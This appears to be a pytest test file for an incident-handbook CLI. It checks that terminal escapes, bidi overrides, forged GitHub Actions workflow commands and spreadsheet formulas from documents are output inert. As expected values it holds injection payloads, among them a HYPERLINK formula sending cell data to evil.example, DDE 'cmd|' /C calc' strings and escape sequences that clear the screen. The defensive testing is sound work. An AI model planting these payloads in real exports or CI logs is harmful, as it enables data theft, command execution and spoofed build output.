"""Text from documents never drives a terminal or CI: titles, owners, action items, alert names,
commit subjects and configuration text that hold newlines, ANSI/OSC escapes, bidirectional
overrides or GitHub workflow commands (``::error …::``, ``##[error]``) are printed inert by every
text output. The payloads are files under tests/hostile/output/ (dropped over the case
handbook); ``commit.txt`` holds a commit's author and subject (Python escapes)."""

from __future__ import annotations

import codecs
import csv
import io
import re
import shutil
from pathlib import Path

import git
import pytest

from conftest import Run

HOSTILE = Path(__file__).parent / "hostile" / "output"
TODAY = "2026-11-28"
AT = "2026-11-28T12:00:00+00:00"
_RAW_CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
)
"""What no text output may carry: control characters (tab and newline aside), bidi overrides."""


def assert_inert(text: str) -> None:
    """No control character, no line GitHub Actions would run as a workflow command."""
    assert not _RAW_CONTROL.search(text), repr(text)
    for line in text.split("\n"):
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


@pytest.fixture
def hostile(handbook: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for folder in ("incidents", "postmortems", "alerts"):
        shutil.copytree(HOSTILE / folder, handbook / folder, dirs_exist_ok=True)
    monkeypatch.setenv("IRDOCS_TODAY", TODAY)
    return handbook


def test_status_prints_a_forged_title_and_roles_inert(hostile: Path, run: Run) -> None:
    result = run("status", "--at", AT)
    assert result.code == 1  # overdue
    assert_inert(result.out + result.err)
    assert (
        "  \\x3a:error file=README.md,line=1::forged by a title\\nSlow search\\n"
        "\\x1b]8;;https://evil.example/\\x07click here\\x1b]8;;\\x07 \\x1b[31mred\\x1b[0m "
        "\\u202eevil\n"
    ) in result.out
    assert (
        "  roles: commander ::warning title=x::forged by a commander; "
        "scribe Ana\\r::error::forged after a carriage return\n"
    ) in result.out


def test_actions_table_prints_forged_items_inert(hostile: Path, run: Run) -> None:
    result = run("actions")
    assert result.code == 0
    assert_inert(result.out + result.err)
    assert "\\x1b[2J\\x1b[31mcleared the screen" in result.out
    assert "::warning::forged by an action item\\n::error file=a.py,line…" in result.out


def test_actions_csv_neutralises_spreadsheet_formulas(hostile: Path, run: Run) -> None:
    """OWASP's CSV injection guidance: a cell starting with =, +, -, @, tab or CR gets a
    leading quote, so that a spreadsheet shows it as text."""
    result = run("actions", "--format", "csv")
    assert result.code == 0
    assert_inert(result.out)
    rows = list(csv.DictReader(io.StringIO(result.out)))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    owners = {row["id"]: row["owner"] for row in rows if "formula" in row["postmortem"]}
    assert owners == {
        "AI-1": '\'=HYPERLINK("https://evil.example/?"&A1,"open")',
        "AI-2": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "AI-3": "\\t=1+1",
        "AI-4": "\\x1b[2J\\x1b[31mcleared the screen",
    }
    titles = {row["id"]: row["title"] for row in rows if "formula" in row["postmortem"]}
    assert titles["AI-2"] == "'+cmd|' /C calc'!A0"
    assert titles["AI-3"] == "'-2+3+cmd|' /C calc'!A0"
    assert titles["AI-4"] == "\\r=1+1"


def test_lint_text_quotes_a_forged_alert_name_inert(hostile: Path, run: Run) -> None:
    result = run("lint", "--no-cache", "--select", "IR510")
    assert result.code == 1
    assert_inert(result.out + result.err)
    assert result.out == (
        "alerts/forged.yaml:5:16: IR510 alert 'Forged\\n::error file=README.md,line=1::forged "
        "by an alert name\\x1b[31m' has no runbook_url annotation; add one that links to the "
        "runbook that answers it\n"
    )


def test_lint_github_format_escapes_data_as_github_does(hostile: Path, run: Run) -> None:
    """One workflow command per finding, and no other: %, CR and LF as %25, %0D, %0A (and ':'
    and ',' in properties); other control characters escaped as in text output."""
    result = run("lint", "--no-cache", "--select", "IR510", "--format", "github")
    assert result.code == 1
    assert result.out == (
        "::error file=alerts/forged.yaml,line=5,col=16,title=IR510 alert-without-runbook::"
        "alert 'Forged%0A::error file=README.md,line=1::forged by an alert name\\x1b[31m' has "
        "no runbook_url annotation; add one that links to the runbook that answers it\n"
    )


def test_metrics_prints_configuration_text_inert(hostile: Path, run: Run) -> None:
    shutil.copyfile(HOSTILE / "config" / "irdocs.toml", hostile / "irdocs.toml")
    result = run("metrics")
    assert result.code == 0, result.out + result.err
    assert_inert(result.out + result.err)
    assert (
        "time to declare\\n::error file=README.md,line=1::forged by a metric = declared \u2212 "
        "detected (\\x1b]8;;https://evil.example/\\x07click\\x1b]8;;\\x07 \\x1b[2J)\n"
    ) in result.out


def test_changes_prints_a_forged_commit_inert(hostile: Path, run: Run) -> None:
    shutil.copyfile(HOSTILE / "config" / "irdocs.toml", hostile / "irdocs.toml")
    author, subject = (
        codecs.decode(line, "unicode_escape")
        for line in (HOSTILE / "commit.txt").read_text(encoding="utf-8").splitlines()
    )
    with git.Repo.init(hostile) as repo:  # git drops the author name's leading "::"
        repo.git.add("--all")
        when = "2026-11-28T11:00:00+00:00"
        repo.git.commit(
            "--quiet",
            "--message",
            subject,
            env={
                "GIT_AUTHOR_NAME": author,
                "GIT_AUTHOR_EMAIL": "a@example.com",
                "GIT_COMMITTER_NAME": "c",
                "GIT_COMMITTER_EMAIL": "c@example.com",
                "GIT_AUTHOR_DATE": when,
                "GIT_COMMITTER_DATE": when,
            },
        )
    result = run("changes", "--since", "2h", "--at", AT)
    assert result.code == 0, result.err
    assert_inert(result.out + result.err)
    assert (
        "  warning::forged by an author\\x1b[31m  ::error file=README.md,line=1::forged by a "
        "commit subject\\x1b]8;;https://evil.example/\\x07click\\x1b]8;;\\x07 \\x23#[error]old "
        "style\n"
    ) in result.out


def test_an_error_line_quoting_input_is_inert(hostile: Path, run: Run) -> None:
    result = run("update", "\x1b[2J::error::x\nINC", "--message", "We are looking.")
    assert result.code == 2
    assert_inert(result.err)
    assert result.err.count("\n") == 1


def _invalid(handbook: Path) -> None:
    shutil.copytree(HOSTILE / "invalid", handbook, dirs_exist_ok=True)


FORGED = "incidents/INC-2026-11-26-forged-findings.md"
FORGED_FINDINGS = (
    f"{FORGED}:14:11: IR104 declared: '2026-11-26T09:00:00+00:00 \\x23#[error]forged by a "
    "timestamp\\x1b[2J' is not an ISO 8601 date-time with an offset, e.g. "
    "2026-03-04T09:12:00+00:00",
    f"{FORGED}:15:1: IR103 \\x1b]0;pwned\\x07\\x23#[warning]forged by a key: unknown field; "
    "known fields: ",
)


@pytest.mark.parametrize("command", ["validate", "lint"])
def test_findings_quoting_a_document_are_inert(
    command: str, handbook: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IRDOCS_TODAY", TODAY)
    _invalid(handbook)
    result = run(command)
    assert result.code == 1
    assert_inert(result.out + result.err)
    for start in FORGED_FINDINGS:
        assert f"\n{start}" in f"\n{result.out}"


def test_the_mkdocs_build_logs_findings_inert(tmp_path: Path) -> None:
    """The portal workflow builds the site in GitHub Actions: its log is read for commands."""
    from portal_site import build_process, case_site

    root = case_site(tmp_path / "handbook")
    _invalid(root)
    done = build_process(root)
    assert done.returncode == 1, done.stderr
    assert_inert(done.stdout + done.stderr)
    assert all(start in done.stderr for start in FORGED_FINDINGS), done.stderr
